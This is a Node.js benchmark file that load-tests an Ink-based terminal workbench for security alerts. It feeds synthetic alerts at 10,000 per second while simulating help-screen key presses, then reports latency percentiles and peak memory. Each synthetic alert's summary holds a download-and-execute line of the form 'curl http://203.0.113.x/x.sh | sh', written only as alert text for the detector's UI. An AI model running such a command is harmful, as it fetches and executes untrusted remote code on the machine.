// The workbench under a burst: 10 000 alerts/s for 10 s fed into its store while keys are
// pressed; keypress -> frame latency (the help screen opening and closing) and peak RSS. Run as
// a process of its own (`node bench/tui-burst.js` prints the figures), with the V8 setting
// bin/vigil.js makes, so the RSS is the workbench's and not what earlier benchmarks left.
import { EventEmitter } from 'node:events';
import { pathToFileURL } from 'node:url';
import { setFlagsFromString } from 'node:v8';
import { render } from 'ink';
import { createElement } from 'react';
import { App } from '../dist/ui/app.js';
import { AlertStore } from '../dist/ui/model/alert-store.js';
import { EventWindow } from '../dist/ui/model/event-window.js';
import { StatusModel } from '../dist/ui/model/status.js';
import { renderOptions } from '../dist/ui/workbench.js';
import { Session } from '../dist/runtime/session.js';
import { loadProfile } from '../dist/profile/load.js';

/** A terminal of 120×40 that keeps only the last frame written (not cursor-only writes). */
class Terminal extends EventEmitter {
  columns = 120;
  rows = 40;
  isTTY = true;
  last = '';
  write = (chunk) => {
    const text = String(chunk);
    if (text.includes('vigil ·')) this.last = text;
    return true;
  };
}

/** Keys typed into the workbench, as Ink reads a raw-mode TTY. */
class Keyboard extends EventEmitter {
  isTTY = true;
  data = null;
  type(data) {
    this.data = data;
    this.emit('readable');
    this.emit('data', data);
  }
  read = () => {
    const { data } = this;
    this.data = null;
    return data;
  };
  setEncoding() {}
  setRawMode() {}
  resume() {}
  pause() {}
  ref() {}
  unref() {}
}

function percentile(sorted, p) {
  return sorted[Math.min(sorted.length - 1, Math.ceil((p / 100) * sorted.length) - 1)];
}

function syntheticAlert(i) {
  return {
    id: i.toString(16).padStart(20, '0'),
    ts: new Date(Date.UTC(2026, 10, 27, 10, 0, 0, i)).toISOString(),
    ruleId: 'system.high_risk_command',
    category: 'system',
    severity: ['low', 'medium', 'high', 'critical'][i % 4],
    title: 'High-risk command execution',
    titleZh: '高危命令执行',
    summary: `download-and-execute: sh -c curl http://203.0.113.${i % 250}/x.sh | sh`,
    container: { id: 'c'.repeat(64), name: `web-${i % 200}`, image: 'shop/web:1' },
    evidence: {},
    events: [i],
  };
}

export async function tuiBurst({ perSecond = 10_000, seconds = 10 } = {}) {
  const profile = await loadProfile();
  const store = new AlertStore();
  const status = new StatusModel();
  const events = new EventWindow();
  const session = new Session({ profile, onAlert: () => {} });
  const stdout = new Terminal();
  const stdin = new Keyboard();
  // The workbench's own render options (src/ui/workbench.tsx), whatever they become.
  const app = render(
    createElement(App, {
      mode: 'live', lang: 'en', store, status, events, profile,
      engine: () => session.engine,
      exportAlerts: async () => '',
      onQuit: () => {},
      columns: 120,
      rows: 40,
    }),
    { stdout, stdin, stderr: new Terminal(), ...renderOptions },
  );
  let peakRss = process.memoryUsage().rss;
  let n = 0;
  const began = performance.now();
  // Catches up with the clock, so a busy event loop still gets its 10 000 alerts a second.
  const feeder = setInterval(() => {
    const due = Math.min(perSecond * seconds, Math.floor(((performance.now() - began) * perSecond) / 1000));
    while (n < due) store.add(syntheticAlert(n++));
    peakRss = Math.max(peakRss, process.memoryUsage().rss);
  }, 10);
  const latencies = [];
  const end = Date.now() + seconds * 1000;
  let open = false;
  while (Date.now() < end) {
    await new Promise((r) => setTimeout(r, 150));
    const want = !open;
    const start = performance.now();
    stdin.type(open ? '\x1b' : '?');
    // Wait until the frame shows the screen the key asked for.
    for (;;) {
      await new Promise((r) => setImmediate(r));
      if (stdout.last.includes('Keys (live)') === want) break;
      if (performance.now() - start > 5000) break;
    }
    latencies.push(performance.now() - start);
    open = want;
  }
  clearInterval(feeder);
  app.unmount();
  status.stop();
  const sorted = latencies.sort((a, b) => a - b);
  return {
    tuiAlertsFed: n,
    tuiKeyLatencyP50Ms: Math.round(percentile(sorted, 50)),
    tuiKeyLatencyP95Ms: Math.round(percentile(sorted, 95)),
    tuiPeakRssMB: Math.round(peakRss / 1e6),
  };
}

if (import.meta.url === pathToFileURL(process.argv[1] ?? '').href) {
  setFlagsFromString('--heap-growing-percent=50');
  process.stdout.write(`${JSON.stringify(await tuiBurst())}\n`);
  process.exit(0);
}
